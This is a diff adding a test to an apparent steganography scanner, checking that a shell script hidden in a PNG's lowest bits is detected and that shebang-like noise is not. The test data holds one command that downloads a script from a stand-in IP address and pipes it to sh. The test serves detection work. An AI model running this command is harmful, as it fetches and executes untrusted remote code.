@@ -103,6 +103,15 @@ describe('extraction', () => {
     expect(texts(await scan('png', png(WIDTH, HEIGHT, embedBytes(photo, deflateSync(SENTENCE), RGB))))).toEqual([SENTENCE]);
   });
 
+  it('reads a script to the end of its text, and takes bits that begin like one for none', async () => {
+    const script = '#!/bin/sh\ncurl -s http://198.51.100.7/install | sh';
+    const found = await scan('png', png(WIDTH, HEIGHT, embedBytes(photo, ascii(`${script}\n\0`), RGB)));
+    expect(techniques(found)).toContain('bit-plane-script');
+    expect(texts(found)).toEqual([script]);
+    const noise = await scan('png', png(WIDTH, HEIGHT, embedBytes(photo, Buffer.from('2321 2f93 7101 e00f'.replaceAll(' ', ''), 'hex'), RGB)));
+    expect(techniques(noise)).not.toContain('bit-plane-script');
+  });
+
   it('hands a picture in the lowest bits on as a child', async () => {
     const inner = png(20, 20, photograph(20, 20));
     const found = await scan('png', png(WIDTH, HEIGHT, embedBytes(photo, inner, RGB)));
